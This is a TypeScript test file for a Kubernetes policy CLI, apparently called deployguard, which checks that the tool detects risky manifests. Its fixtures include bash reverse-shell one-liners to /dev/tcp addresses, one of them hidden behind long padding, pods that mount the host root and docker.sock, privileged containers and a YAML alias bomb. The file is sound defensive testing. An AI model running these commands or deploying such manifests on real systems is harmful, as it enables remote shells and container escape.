// The offline CLI end to end, as a platform team's CI would run it: a real process, real files, stdin.
import { expect } from 'chai';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';

const ROOT = fileURLToPath(new URL('../../../', import.meta.url));
const CLI = join(ROOT, 'src/cli.ts');
const dir = mkdtempSync(join(tmpdir(), 'dg-cli-'));

function file(name: string, text: string): string {
  const p = join(dir, name);
  writeFileSync(p, text);
  return p;
}

function cli(args: string[], input?: string) {
  const r = spawnSync(process.execPath, ['--no-warnings', CLI, ...args], {
    input,
    encoding: 'utf8',
    cwd: ROOT,
  });
  return { code: r.status, out: r.stdout, err: r.stderr };
}

const POLICY = file(
  'policy.yaml',
  `apiVersion: deployguard.dev/v1alpha1
kind: ContainerDeploymentPolicy
metadata: {name: p}
spec:
  match:
    namespaceSelector: {matchLabels: {env: prod}}
  rules:
    hostPaths: {}
    indicators: {}
`,
);
const PROD_NS = `apiVersion: v1
kind: Namespace
metadata: {name: prod, labels: {env: prod}}
`;
const ESCAPE = `apiVersion: v1
kind: Pod
metadata: {name: x, namespace: prod}
spec:
  containers: [{name: c, image: alpine:3.20}]
  volumes: [{name: root, hostPath: {path: /}}]
`;
const BENIGN = `apiVersion: v1
kind: Pod
metadata: {name: ok, namespace: prod}
spec:
  containers: [{name: c, image: nginx:1.27}]
`;

describe('deployguard evaluate (CLI)', function () {
  this.timeout(30_000);

  it('exits 0 with no violations', () => {
    const r = cli(['evaluate', '-p', POLICY, '-f', file('ok.yaml', `${PROD_NS}---\n${BENIGN}`)]);
    expect(r.err).to.equal('');
    expect(r.code).to.equal(0);
    expect(r.out).to.contain('No violations in 1 resource.');
  });

  it('exits 1 with violations and prints the exact JSON shape', () => {
    const r = cli([
      'evaluate',
      '-p',
      POLICY,
      '-f',
      file('bad.yaml', `${PROD_NS}---\n${ESCAPE}---\n${BENIGN}`),
      '-o',
      'json',
    ]);
    expect(r.code).to.equal(1);
    const out = JSON.parse(r.out);
    expect(Object.keys(out)).to.deep.equal(['results', 'summary']);
    expect(out.summary).to.deep.equal({ resources: 2, violating: 1, violations: 1 });
    const [v] = out.results;
    expect(Object.keys(v)).to.deep.equal([
      'resource',
      'container',
      'policy',
      'rule',
      'severity',
      'techniques',
      'message',
      'path',
    ]);
    expect(v.resource).to.deep.equal({
      apiVersion: 'v1',
      kind: 'Pod',
      namespace: 'prod',
      name: 'x',
    });
    expect(v).to.deep.include({
      policy: 'p',
      rule: 'hostPath.sensitive',
      severity: 'critical',
      path: 'spec.volumes[0].hostPath.path',
    });
    expect(v.techniques).to.deep.equal(['T1611']);
    expect(v.message).to.be.a('string').and.not.equal('');
  });

  it('reads resources from stdin with -', () => {
    const r = cli(['evaluate', '-p', POLICY, '-f', '-', '-o', 'json'], `${PROD_NS}---\n${ESCAPE}`);
    expect(r.code).to.equal(1);
    expect(JSON.parse(r.out).summary.violations).to.equal(1);
  });

  it('reads JSON input and kind: List, and takes several -f files', () => {
    const list = JSON.stringify({
      apiVersion: 'v1',
      kind: 'List',
      items: [
        {
          apiVersion: 'v1',
          kind: 'Namespace',
          metadata: { name: 'prod', labels: { env: 'prod' } },
        },
      ],
    });
    const pod = file(
      'pod.json',
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'j', namespace: 'prod' },
        spec: {
          containers: [
            {
              name: 'c',
              image: 'x:1',
              command: ['sh', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'],
            },
          ],
        },
      }),
    );
    const r = cli([
      'evaluate',
      '-p',
      POLICY,
      '-f',
      file('list.json', list),
      '-f',
      pod,
      '-o',
      'json',
    ]);
    expect(r.code).to.equal(1);
    expect(JSON.parse(r.out).results[0].rule).to.equal('indicator.reverseShell');
  });

  it('puts resources without a namespace in default (not selected by the prod-only policy)', () => {
    const r = cli([
      'evaluate',
      '-p',
      POLICY,
      '-f',
      file('nons.yaml', ESCAPE.replace('namespace: prod', 'labels: {a: b}')),
    ]);
    expect(r.code).to.equal(0);
  });

  it('judges workload templates with their paths', () => {
    const dep = `apiVersion: apps/v1
kind: Deployment
metadata: {name: d, namespace: prod}
spec:
  selector: {matchLabels: {a: b}}
  template:
    metadata: {labels: {a: b}}
    spec:
      containers: [{name: c, image: x:1}]
      volumes: [{name: v, hostPath: {path: /var/run/docker.sock}}]
`;
    const r = cli([
      'evaluate',
      '-p',
      POLICY,
      '-f',
      file('dep.yaml', `${PROD_NS}---\n${dep}`),
      '-o',
      'json',
    ]);
    expect(r.code).to.equal(1);
    const [v] = JSON.parse(r.out).results;
    expect(v.resource.kind).to.equal('Deployment');
    expect(v.path).to.equal('spec.template.spec.volumes[0].hostPath.path');
  });

  it('prints a readable table by default', () => {
    const r = cli(['evaluate', '-p', POLICY, '-f', file('t.yaml', `${PROD_NS}---\n${ESCAPE}`)]);
    expect(r.code).to.equal(1);
    const lines = r.out.split('\n');
    expect(lines[0]).to.match(/^RESOURCE\s+CONTAINER\s+POLICY\s+RULE\s+SEVERITY\s+PATH\s+MESSAGE$/);
    expect(lines[1]).to.match(
      /^Pod\/prod\/x\s+-\s+p\s+hostPath\.sensitive\s+critical\s+spec\.volumes\[0\]\.hostPath\.path\s+volume/,
    );
    expect(r.out).to.contain('1 violation in 1 of 1 resource.');
  });

  it('reads YAML as kubectl does (1.1 booleans, merge keys): privileged: yes is privileged', () => {
    const pss = file(
      'pss.yaml',
      'apiVersion: deployguard.dev/v1alpha1\nkind: ContainerDeploymentPolicy\nmetadata: {name: pss}\nspec: {rules: {podSecurity: {level: baseline}}}\n',
    );
    const yes = `apiVersion: v1
kind: Pod
metadata: {name: yes-pod}
spec:
  hostPID: yes
  containers: [{name: c, image: x:1, securityContext: {privileged: on}}]
---
apiVersion: v1
kind: Pod
metadata: {name: merged}
spec:
  containers:
    - name: c
      image: x:1
      securityContext:
        <<: {privileged: true}
`;
    const r = cli(['evaluate', '-p', pss, '-f', file('yes.yaml', yes), '-o', 'json']);
    expect(r.code, r.err).to.equal(1);
    const found = JSON.parse(r.out).results.map(
      (x: { resource: { name: string }; rule: string }) => `${x.resource.name} ${x.rule}`,
    );
    expect(found).to.include.members([
      'yes-pod pss.hostNamespaces',
      'yes-pod pss.privileged',
      'merged pss.privileged',
    ]);
  });

  it('fails closed on padding past the bounds: a 1,025th container, a 130 KiB arg', () => {
    const many = Array.from({ length: 1025 }, (_, i) => ({ name: `c${i}`, image: 'x:1' }));
    const pods = [
      {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'many', namespace: 'prod' },
        spec: { containers: many },
      },
      {
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'long', namespace: 'prod' },
        spec: {
          containers: [
            {
              name: 'c',
              image: 'x:1',
              args: ['#'.repeat(133_000) + '; bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'],
            },
          ],
        },
      },
    ];
    const r = cli([
      'evaluate',
      '-p',
      POLICY,
      '-f',
      file('ns.yaml', PROD_NS),
      '-f',
      file('pad.json', JSON.stringify({ apiVersion: 'v1', kind: 'List', items: pods })),
      '-o',
      'json',
    ]);
    expect(r.code).to.equal(1);
    const found = JSON.parse(r.out).results.map(
      (x: { resource: { name: string }; rule: string; path: string }) =>
        `${x.resource.name} ${x.rule} ${x.path}`,
    );
    expect(found).to.include.members([
      'many input.oversized spec.containers',
      'long input.oversized spec.containers[0].args[0]',
    ]);
  });

  it('reads a directory of manifests like kubectl apply -f DIR', () => {
    const d = mkdtempSync(join(dir, 'manifests-'));
    writeFileSync(join(d, 'a-ns.yaml'), PROD_NS);
    writeFileSync(
      join(d, 'b-pod.json'),
      JSON.stringify({
        apiVersion: 'v1',
        kind: 'Pod',
        metadata: { name: 'x', namespace: 'prod' },
        spec: {
          containers: [{ name: 'c', image: 'alpine:3.20' }],
          volumes: [{ name: 'r', hostPath: { path: '/' } }],
        },
      }),
    );
    writeFileSync(join(d, 'notes.txt'), 'not a manifest');
    const r = cli(['evaluate', '-p', POLICY, '-f', d, '-o', 'json']);
    expect(r.code, r.err).to.equal(1);
    expect(JSON.parse(r.out).summary).to.deep.equal({ resources: 1, violating: 1, violations: 1 });
  });

  it('warns about documents it does not judge, typos included', () => {
    const svc =
      'apiVersion: v1\nkind: Service\nmetadata: {name: s}\n---\napiVersion: apps/v1\nkind: Deploymnet\nmetadata: {name: d}\n';
    const r = cli(['evaluate', '-p', POLICY, '-f', file('svc.yaml', svc)]);
    expect(r.code).to.equal(0);
    expect(r.err).to.contain('warning: not judged, not a Pod or workload: Service, Deploymnet');
    expect(r.out).to.contain('No violations in 0 resources.');
  });

  describe('invalid input exits 2 and names file, document and field', () => {
    it('an invalid policy', () => {
      const bad = file(
        'badpolicy.yaml',
        `${'apiVersion: deployguard.dev/v1alpha1\nkind: ContainerDeploymentPolicy\nmetadata: {name: ok}\nspec: {rules: {indicators: {}}}\n'}---\napiVersion: deployguard.dev/v1alpha1\nkind: ContainerDeploymentPolicy\nmetadata: {name: q}\nspec:\n  mode: Bogus\n  rules: {commands: {deniedPatterns: ['(']}}\n`,
      );
      const r = cli(['evaluate', '-p', bad, '-f', file('x.yaml', BENIGN)]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain(`${bad}: document 1: spec.mode: Unsupported value: "Bogus"`);
      expect(r.out).to.equal('');
    });
    it('a regex problem found after the schema passes', () => {
      const bad = file(
        'badre.yaml',
        'apiVersion: deployguard.dev/v1alpha1\nkind: ContainerDeploymentPolicy\nmetadata: {name: q}\nspec:\n  rules: {commands: {deniedPatterns: [ok, "(a+"]}}\n',
      );
      const r = cli(['evaluate', '-p', bad, '-f', file('x.yaml', BENIGN)]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain(`${bad}: document 0: spec.rules.commands.deniedPatterns[1]`);
    });
    it('a non-policy document among the policies', () => {
      const r = cli([
        'evaluate',
        '-p',
        file('notpolicy.yaml', BENIGN),
        '-f',
        file('x.yaml', BENIGN),
      ]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain('document 0: kind: expected a ContainerDeploymentPolicy, got "Pod"');
    });
    it('a malformed pod', () => {
      const f = file(
        'badpod.yaml',
        `${BENIGN}---\napiVersion: v1\nkind: Pod\nmetadata: {name: bad}\nspec:\n  containers:\n    - {name: c, image: x, command: sh}\n`,
      );
      const r = cli(['evaluate', '-p', POLICY, '-f', f]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain(`${f}: document 1: spec.containers[0].command: must be a list`);
    });
    it('broken YAML', () => {
      const f = file('broken.yaml', `${BENIGN}---\nkind: Pod\nmetadata: {name: [unclosed\n`);
      const r = cli(['evaluate', '-p', POLICY, '-f', f]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain(`${f}: document 1: invalid YAML`);
    });
    it('a field of the wrong type, in a workload template, with its path in the workload', () => {
      const dep =
        'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: d}\nspec:\n  template:\n    spec:\n      containers: [{name: c, image: x, securityContext: {privileged: "true"}}]\n';
      const f = file('badtype.yaml', dep);
      const r = cli(['evaluate', '-p', POLICY, '-f', f]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain(
        `${f}: document 0: spec.template.spec.containers[0].securityContext.privileged: must be a boolean`,
      );
    });
    it('an item of a List, named by its position', () => {
      const list = JSON.stringify({
        apiVersion: 'v1',
        kind: 'List',
        items: [
          {
            apiVersion: 'v1',
            kind: 'Pod',
            metadata: { name: 'ok' },
            spec: { containers: [{ name: 'c', image: 'x' }] },
          },
          {
            apiVersion: 'v1',
            kind: 'Pod',
            metadata: { name: 'bad' },
            spec: { containers: [{ name: 'c' }] },
          },
        ],
      });
      const f = file('list-bad.json', list);
      const r = cli(['evaluate', '-p', POLICY, '-f', f]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain(
        `${f}: document 0, item 1: spec.containers[0].image: Required value`,
      );
    });
    it('stdin named twice (it can be read once)', () => {
      const r = cli(['evaluate', '-p', '-', '-f', '-'], 'anything');
      expect(r.code).to.equal(2);
      expect(r.err).to.contain('stdin (-) can be read only once');
    });
    it('a missing file', () => {
      const r = cli(['evaluate', '-p', POLICY, '-f', join(dir, 'nope.yaml')]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain('nope.yaml: cannot read: ENOENT');
    });
    it('bad flags', () => {
      expect(cli(['evaluate', '-p', POLICY]).code).to.equal(2);
      expect(cli(['evaluate', '-p', POLICY, '-f', POLICY, '-o', 'xml']).err).to.contain(
        '-o must be table or json',
      );
      expect(cli(['evaluate', '--bogus']).code).to.equal(2);
      expect(cli(['frobnicate']).code).to.equal(2);
    });
    it('a YAML alias bomb', () => {
      const bomb = [
        'a: &a ["x","x","x","x","x","x","x","x","x"]',
        'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]',
        'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]',
        'd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]',
        'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]',
        'f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]',
        'g: [*f,*f,*f,*f,*f,*f,*f,*f,*f]',
      ].join('\n');
      const r = cli(['evaluate', '-p', POLICY, '-f', file('bomb.yaml', bomb)]);
      expect(r.code).to.equal(2);
      expect(r.err).to.contain('invalid YAML');
    });
  });
});
